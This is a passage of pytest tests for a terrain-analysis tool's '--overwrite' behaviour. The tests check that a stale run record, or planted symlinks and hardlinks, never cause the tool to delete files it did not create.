    from terrain.outputs.manifest import file_names

    out = tmp_path / "o"
    code, _, err = cairn("peaks", dem, "-o", out, *RUN)
    assert code == 0, err
    record = json.loads((out / "run.json").read_text())["outputs"]
    assert record == sorted(outputs_of(out)) == sorted(file_names("peaks"))
    (out / "outlets.csv").write_text("id,x,y\n1,2,3\n")  # the user's own file, a cairn name
    code, _, err = cairn("depressions", dem, "-o", out, *RUN)
    one_line_error(code, err, "--overwrite")  # without it: refused, nothing changed
    assert sorted(outputs_of(out)) == sorted(file_names("peaks") + ["outlets.csv"])
    code, _, err = cairn("depressions", dem, "-o", out, *RUN, "--overwrite")
    assert code == 0, err
    assert sorted(outputs_of(out)) == sorted(file_names("depressions") + ["outlets.csv"])
    assert (out / "outlets.csv").read_text() == "id,x,y\n1,2,3\n"  # not listed: kept


@pytest.mark.parametrize("plant", ["symlink", "hardlink", "not a cairn name", "record is a link"])
def test_an_earlier_record_never_removes_what_is_not_cairns(cairn, dem, tmp_path, outside, plant):
    # the earlier run's record (run.json's outputs) is read, never trusted: a name it lists
    # goes only when it is a cairn output name and this user's regular file with no other
    # name (our own rule: no outside reference)
    import json

    out = tmp_path / "o"
    out.mkdir()
    victim = outside / "victim.txt"
    listed = {"symlink": "summits.csv", "hardlink": "summits.csv",
              "not a cairn name": "victim.txt", "record is a link": "summits.csv"}[plant]
    if plant == "symlink":
        (out / listed).symlink_to(victim)
    elif plant == "hardlink":
        os.link(victim, out / listed)
    elif plant == "not a cairn name":
        (out / listed).write_text("the user's own text\n")
    else:
        (out / listed).write_text("a,b\n")
    record = {"outputs": [listed, "run.json"]}
    if plant == "record is a link":
        (outside / "run.json").write_text(json.dumps(record))
        (out / "run.json").symlink_to(outside / "run.json")
    else:
        (out / "run.json").write_text(json.dumps(record))
    before = tree(outside)
    code, _, err = cairn("depressions", dem, "-o", out, *RUN, "--overwrite")
    assert code == 0, err
    assert os.path.lexists(out / listed)
    assert tree(outside) == before
